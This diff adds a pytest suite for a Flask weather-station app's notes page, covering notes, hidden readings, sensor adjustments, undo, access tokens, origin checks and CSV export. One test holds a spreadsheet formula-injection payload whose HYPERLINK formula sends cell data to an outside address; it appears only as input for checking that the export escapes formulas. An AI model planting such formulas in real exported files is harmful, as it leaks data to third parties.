@@ -1,0 +1,365 @@
+"""The page of notes: what is written by its forms, who may, what is undone, and what is kept."""
+
+import csv
+import io
+import logging
+from collections.abc import Callable, Iterator
+from contextlib import contextmanager
+from pathlib import Path
+from typing import Any
+
+import pytest
+from flask.testing import FlaskClient
+from sqlalchemy import Connection
+
+from flask10x.database.engine import Database
+from flask10x.errors import CommitNotReplicated, LockTimeout
+from flask10x.history.corrections import written
+from flask10x.runtime.store import Store
+from flask10x.web.app import create_app
+from tests.conftest import MakeSettings
+from tests.support.html import MINUTE, NINE
+from tests.support.rows import insert_readings, pico, select
+
+NOTE = {"what": "note", "about": "data2", "from": "2025-08-24 09:00", "text": "opened a window"}
+HIDE = {"what": "hide", "about": "data", "from": "2025-08-24 09:00", "to": "2025-08-24 09:00"}
+ADJUST = {"what": "adjust", "about": "data.pressure", "offset": "-0.8", "gain": "2"}
+WRITE, READ, NOTES = "write-0123456789abcdef", "read-0123456789abcdef", "notes-0123456789abcdef"
+
+
+def written_down(client: FlaskClient) -> Any:
+    return client.get("/api/v1/notes").get_json()
+
+
+def test_a_note_is_kept_and_the_answer_leads_to_it(client: FlaskClient) -> None:
+    answer = client.post("/notes/write", data=NOTE | {"text": " 窓を  開けた <b> "})
+    assert (answer.status_code, answer.headers["Location"]) == (303, "/notes#written")
+    (note,) = written_down(client)["notes"]
+    start = {"from_ms": note["from_ms"], "to_ms": note["to_ms"]}
+    assert start == {"from_ms": NINE // 1000 * 1000, "to_ms": NINE // 1000 * 1000}
+    assert note | {"written": ""} == start | {
+        "id": 1,
+        "endpoint": "data2",
+        "from": "2025-08-24T09:00:00.000+09:00",
+        "to": "2025-08-24T09:00:00.000+09:00",
+        "text": "窓を 開けた <b>",
+        "written": "",
+        "undone": None,
+    }
+    page = client.get("/notes").text
+    assert "窓を 開けた &lt;b&gt;" in page
+    assert "Bedroom" in page
+
+
+def test_a_control_character_in_a_text_is_a_gap_between_words(client: FlaskClient) -> None:
+    text = "\x1b[31mopened\x00a\r\nwindow\x9b\x07"
+    assert client.post("/notes/write", data=NOTE | {"text": text}).status_code == 303
+    (note,) = written_down(client)["notes"]
+    assert note["text"] == "[31mopened a window"
+    assert client.post("/notes/write", data=NOTE | {"text": "\x00"}).status_code == 400
+
+
+def test_what_is_sent_again_is_written_once(client: FlaskClient) -> None:
+    for form in (NOTE, HIDE, ADJUST):
+        for _ in range(2):
+            assert client.post("/notes/write", data=form).status_code == 303
+    found = written_down(client)
+    assert len(found["notes"]) == 1 and len(found["corrections"]) == 2
+    # What was taken back may be said anew.
+    client.post("/notes/undo", data={"what": "note", "id": str(found["notes"][0]["id"])})
+    client.post("/notes/write", data=NOTE)
+    assert len(written_down(client)["notes"]) == 2
+
+
+def test_what_another_correction_has_covered_counts_when_it_is_written_again(
+    client: FlaskClient,
+) -> None:
+    for offset in ("-0.8", "-1.0", "-0.8"):
+        client.post("/notes/write", data=ADJUST | {"offset": offset})
+    offsets = [one["offset"] for one in written_down(client)["corrections"]]
+    assert offsets == [-0.8, -1.0, -0.8]
+
+
+def test_the_last_one_that_has_room_may_be_sent_again(
+    client: FlaskClient, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    client.post("/notes/write", data=NOTE)
+    monkeypatch.setattr(written, "has_room", lambda *_: False)
+    assert client.post("/notes/write", data=NOTE).status_code == 303
+
+
+@pytest.mark.parametrize("path", ["/notes/write", "/notes/undo"])
+def test_what_is_on_one_machine_only_is_saved_and_that_is_said(
+    client: FlaskClient, database: Database, monkeypatch: pytest.MonkeyPatch, path: str
+) -> None:
+    client.post("/notes/write", data=NOTE)
+    commit = Database.commit
+
+    @contextmanager
+    def on_one_machine(database: Database) -> Iterator[Connection]:
+        with commit(database) as connection:
+            yield connection
+        raise CommitNotReplicated("canceling the wait for synchronous replication")
+
+    monkeypatch.setattr(Database, "commit", on_one_machine)
+    answer = client.post(path, data=HIDE | {"what": "note", "text": "second", "id": "1"})
+    assert answer.status_code == 200
+    assert "on one machine only" in answer.text and "Nothing was saved" not in answer.text
+    notes = written_down(client)["notes"]
+    assert len(notes) == 2 if path == "/notes/write" else notes[0]["undone"]
+
+
+@pytest.mark.parametrize("path", ["/notes/write", "/notes/undo"])
+def test_what_cannot_be_written_now_stays_in_its_form(
+    client: FlaskClient, monkeypatch: pytest.MonkeyPatch, path: str
+) -> None:
+    def busy(*_: object) -> bool:
+        raise LockTimeout("held by another process")
+
+    monkeypatch.setattr(written, "add", busy)
+    monkeypatch.setattr(written, "undo", busy)
+    answer = client.post(path, data=NOTE | {"id": "1"})
+    assert (answer.status_code, answer.headers["Retry-After"]) == (503, "5")
+    assert "nothing was written" in answer.text
+    assert ("opened a window" in answer.text) == (path == "/notes/write")
+
+
+def test_a_full_list_says_so_and_takes_no_more(
+    client: FlaskClient, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setattr(written, "has_room", lambda *_: False)
+    answer = client.post("/notes/write", data=NOTE)
+    assert answer.status_code == 400 and "there are too many" in answer.text
+    assert "opened a window" in answer.text
+    assert written_down(client)["notes"] == []
+
+
+def test_the_switches_beside_a_refused_form_lead_to_its_page(client: FlaskClient) -> None:
+    page = client.post("/notes/write", data=NOTE | {"text": ""})
+    assert page.status_code == 400
+    assert 'href="/notes?lang=ja"' in page.text and 'href="/notes?theme=dark"' in page.text
+    answer = client.get("/notes?lang=ja")
+    assert (answer.status_code, answer.headers["Location"]) == (303, "/notes")
+
+
+def test_a_hidden_reading_is_gone_until_it_is_undone(
+    client: FlaskClient, database: Database
+) -> None:
+    with database.commit() as connection:
+        insert_readings(connection, [pico(1000.0 + n, NINE + n * MINUTE) for n in range(3)])
+    stored = select(database.path, "SELECT * FROM readings")
+    assert client.post("/notes/write", data=HIDE).status_code == 303
+    pressures = [one["data"]["pressure"] for one in client.get("/history/json").get_json()]
+    assert pressures == [1001.0, 1002.0]
+    raw = client.get("/history/json?raw=1").get_json()
+    assert [one.get("hidden") for one in raw] == [True, None, None]
+    said = '<small class="quiet">hidden</small>'
+    assert client.get("/history?raw=1").text.count(said) == 1
+    assert said not in client.get("/history").text
+    assert "1000.0" not in client.get("/history.csv").text
+    assert "1000.0" in client.get("/history.csv?raw=1").text
+    series = client.get("/history/series?measurement=pressure").get_json()["series"]
+    assert series[0]["min"] == [1001.0, 1002.0]
+    assert client.post("/notes/undo", data={"what": "hide", "id": "1"}).status_code == 303
+    assert len(client.get("/history/json").get_json()) == 3
+    assert written_down(client)["corrections"][0]["undone"]
+    assert select(database.path, "SELECT * FROM readings") == stored
+
+
+def test_a_sensor_is_adjusted_everywhere(client: FlaskClient, database: Database) -> None:
+    with database.commit() as connection:
+        insert_readings(connection, [pico(1000.0, NINE)])
+    assert client.post("/notes/write", data=ADJUST).status_code == 303
+    assert client.get("/history/json").get_json()[0]["data"]["pressure"] == 1999.2
+    latest = client.get("/api/v1/latest?station=data").get_json()
+    assert latest["measurements"]["pressure"] == 1999.2
+    assert client.get("/history/json?pressure__lt=1999").get_json() == []
+    assert len(client.get("/history/json?pressure__lt=1999&raw=1").get_json()) == 1
+    answer = client.get("/history/series").get_json()
+    assert answer["series"][0]["avg"] == [1999.2]
+    assert [one["change"] for one in answer["corrections"]] == ["× 2 −0.8 hPa"]
+    assert "1,999.2" in client.get("/history").text or "1999.2" in client.get("/history").text
+
+
+@pytest.mark.parametrize(
+    ("form", "wrong"),
+    [
+        (NOTE | {"text": " "}, {"text"}),
+        (NOTE | {"text": "x" * 301}, {"text"}),
+        (NOTE | {"from": ""}, {"from"}),
+        (NOTE | {"from": "yesterday"}, {"from"}),
+        (NOTE | {"about": "data9"}, {"about"}),
+        (NOTE | {"to": "2025-08-23"}, {"from"}),
+        (HIDE | {"to": ""}, {"to"}),
+        (HIDE | {"about": ""}, {"about"}),
+        (HIDE | {"about": "data.co2"}, {"about"}),
+        (ADJUST | {"about": "data"}, {"about"}),
+        (ADJUST | {"gain": "0"}, {"gain"}),
+        (ADJUST | {"gain": "-1"}, {"gain"}),
+        (ADJUST | {"gain": "1", "offset": "0"}, {"offset"}),
+        (ADJUST | {"offset": "1e3"}, {"offset"}),
+        (ADJUST | {"offset": "nan", "gain": "x"}, {"gain", "offset"}),
+        ({"what": "delete"}, {"what"}),
+        ({}, {"what"}),
+    ],
+)
+def test_a_form_that_is_wrong_comes_back_with_what_is_wrong(
+    client: FlaskClient, form: dict[str, str], wrong: set[str]
+) -> None:
+    answer = client.post("/notes/write", data=form)
+    assert answer.status_code == 400
+    assert answer.text.count('class="error summary"') == 1
+    for name in wrong - {"what"}:
+        assert f'id="error-{name}"' in answer.text
+    assert written_down(client) == {"notes": [], "corrections": []}
+    if "text" in form and "text" not in wrong:
+        assert 'value="opened a window"' in answer.text
+
+
+def test_there_are_only_so_many(client: FlaskClient, monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setattr(written, "MOST_NOTES", 1)
+    monkeypatch.setattr(written, "MOST_CORRECTIONS", 1)
+    another = NOTE | {"text": "another"}
+    answers = [client.post("/notes/write", data=one) for one in (NOTE, another, HIDE, ADJUST)]
+    assert [one.status_code for one in answers] == [303, 400, 303, 400]
+    client.post("/notes/undo", data={"what": "hide", "id": "1"})
+    assert client.post("/notes/write", data=ADJUST).status_code == 303
+
+
+def test_a_link_fills_the_form(client: FlaskClient) -> None:
+    page = client.get("/notes?what=hide&about=data2&from=2025-08-24&to=2025-08-25").text
+    assert '<details class="write" id="hide" open>' in page
+    assert '<option value="data2" selected>' in page
+    assert client.get("/notes?wat=hide").status_code == 400
+
+
+@pytest.mark.parametrize("form", [{}, {"what": "note"}, {"what": "note", "id": "-1"}, {"id": "1"}])
+def test_what_can_not_be_undone(client: FlaskClient, form: dict[str, str]) -> None:
+    assert client.post("/notes/undo", data=form).status_code == 400
+
+
+def test_undoing_twice_does_no_harm(client: FlaskClient, caplog: pytest.LogCaptureFixture) -> None:
+    client.post("/notes/write", data=NOTE)
+    caplog.clear()
+    with caplog.at_level(logging.INFO, "flask10x.web.pages.notes.view"):
+        for _ in range(2):
+            answer = client.post("/notes/undo", data={"what": "note", "id": "1"})
+            assert answer.status_code == 303
+    assert [one.message for one in caplog.records] == ["Note 1 taken back, by 127.0.0.1"]
+
+
+def test_all_is_in_the_files(client: FlaskClient) -> None:
+    for form in (NOTE, HIDE, ADJUST | {"text": "beside a lamp, too warm"}):
+        client.post("/notes/write", data=form)
+    client.post("/notes/undo", data={"what": "note", "id": "1"})
+    rows = [*csv.DictReader(io.StringIO(client.get("/notes.csv").text))]
+    assert [(r["kind"], r["endpoint"], r["measurement"], r["gain"], r["text"]) for r in rows] == [
+        ("note", "data2", "", "", "opened a window"),
+        ("adjust", "data", "pressure", "2.0", "beside a lamp, too warm"),
+        ("hide", "data", "", "", ""),
+    ]
+    assert rows[0]["undone"] and not rows[1]["undone"]
+    answer = client.get("/notes.json")
+    assert answer.get_json() == written_down(client)
+    assert answer.headers["Content-Disposition"] == 'attachment; filename="notes.json"'
+    assert client.get("/notes.csv?x=1").status_code == 400
+
+
+@pytest.mark.parametrize(
+    ("text", "cell"),
+    [
+        ('=HYPERLINK("http://198.51.100.1/?"&A1)', '\'=HYPERLINK("http://198.51.100.1/?"&A1)'),
+        ("+1+1", "'+1+1"),
+        ("-2+3 °C, frost", "'-2+3 °C, frost"),
+        ("@SUM(1,2)", "'@SUM(1,2)"),
+        ("＝1+1", "'＝1+1"),
+        ("-2.5", "-2.5"),
+        ("a=1", "a=1"),
+        ("'quoted'", "'quoted'"),
+    ],
+)
+def test_no_text_is_a_formula_to_a_spreadsheet(client: FlaskClient, text: str, cell: str) -> None:
+    client.post("/notes/write", data=NOTE | {"text": text})
+    client.post("/notes/write", data=ADJUST | {"text": text, "offset": "-2.5"})
+    note, correction = csv.DictReader(io.StringIO(client.get("/notes.csv").text))
+    assert (note["text"], correction["text"], correction["offset"]) == (cell, cell, "-2.5")
+    assert written_down(client)["notes"][0]["text"] == text
+
+
+# --- Who may -----------------------------------------------------------------------------------
+
+
+@pytest.fixture
+def make_client(
+    make_settings: MakeSettings, tmp_path: Path
+) -> Iterator[Callable[..., FlaskClient]]:
+    stores: list[Store] = []
+
+    def make(**files: str) -> FlaskClient:
+        given = {}
+        for name, token in files.items():
+            file = tmp_path / name
+            file.write_text(f"* {token}\n")
+            file.chmod(0o600)
+            given[f"{name.upper()}_TOKENS_FILE"] = file
+        app = create_app(make_settings(**given))
+        stores.append(app.extensions["flask10x"])
+        return app.test_client()
+
+    yield make
+    for store in stores:
+        store.close()
+
+
+def post(client: FlaskClient, token: str = "", **headers: str) -> int:
+    given = {"Authorization": f"Bearer {token}"} if token else {}
+    return client.post("/notes/write", data=NOTE, headers=given | headers).status_code
+
+
+@pytest.mark.usefixtures("database")
+def test_who_may_read_may_write_them(make_client: Callable[..., FlaskClient]) -> None:
+    assert post(make_client()) == 303
+    reading = make_client(read=READ)
+    assert [post(reading, token) for token in ("", WRITE, READ)] == [401, 401, 303]
+    writing = make_client(write=WRITE)
+    assert [post(writing, token) for token in ("", READ, WRITE)] == [401, 401, 303]
+
+
+@pytest.mark.usefixtures("database")
+def test_tokens_for_notes_open_pages_too_but_take_no_readings(
+    make_client: Callable[..., FlaskClient],
+) -> None:
+    client = make_client(read=READ, notes=NOTES, write=WRITE)
+    assert [post(client, token) for token in ("", WRITE, READ, NOTES)] == [401, 401, 401, 303]
+    own, others = ({"Authorization": f"Bearer {token}"} for token in (NOTES, WRITE))
+    for path in ("/notes", "/history", "/api/v1/notes", "/notes.csv"):
+        codes = [client.get(path, headers=one).status_code for one in (own, others, {})]
+        assert codes == [200, 401, 401]
+    assert client.post("/data", json={}, headers=own).status_code == 401
+    alone = make_client(notes=NOTES)
+    assert alone.get("/notes").status_code == 200
+    assert [post(alone, token) for token in ("", NOTES)] == [401, 303]
+
+
+def test_a_page_of_another_origin_writes_nothing(client: FlaskClient) -> None:
+    assert post(client, Origin="http://evil.example") == 403
+    headers = {"Sec-Fetch-Site": "cross-site"}
+    assert post(client, **headers) == 403
+    undo = client.post("/notes/undo", data={"what": "note", "id": "1"}, headers=headers)
+    assert undo.status_code == 403
+    assert client.get("/notes/write").status_code == 405
+    assert written_down(client)["notes"] == []
+
+
+def test_a_link_to_a_form_that_there_is_not_is_told(client: FlaskClient) -> None:
+    assert client.get("/notes?what=hide").status_code == 200
+    answer = client.get("/notes?what=hidee")
+    assert answer.status_code == 400
+    assert "one of note, hide, adjust is needed" in answer.text
+    wrong, japanese = NOTE | {"what": "hidee"}, {"Accept-Language": "ja"}
+    for refused in (
+        client.get("/notes?what=hidee", headers=japanese),
+        client.post("/notes/write", data=wrong, headers=japanese),
+    ):
+        assert refused.status_code == 400
+        assert "note, hide, adjust のどれかを指定してください" in refused.text
